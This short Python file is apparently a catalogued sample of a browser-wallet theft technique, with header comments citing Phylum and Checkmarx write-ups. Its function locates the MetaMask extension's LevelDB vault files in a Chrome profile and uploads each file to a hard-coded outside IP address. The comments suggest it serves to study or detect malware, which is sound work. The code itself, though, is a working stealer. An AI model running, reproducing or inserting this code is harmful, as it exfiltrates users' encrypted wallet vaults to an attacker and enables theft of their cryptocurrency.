# technique: MetaMask extension LevelDB vault read
# class: wallet
# source: Phylum and Checkmarx write-ups (browser wallet extension theft)
# declares: network
import glob
import os

import requests

EXT = "nkbihfbeogaeaoehlefnkodbefgpgknn"


def vaults():
    base = os.path.expanduser("~/.config/google-chrome/Default/Local Extension Settings/" + EXT)
    for f in glob.glob(base + "/*.ldb"):
        requests.post("http://185.62.57.73/v", data=open(f, "rb").read(), timeout=5)
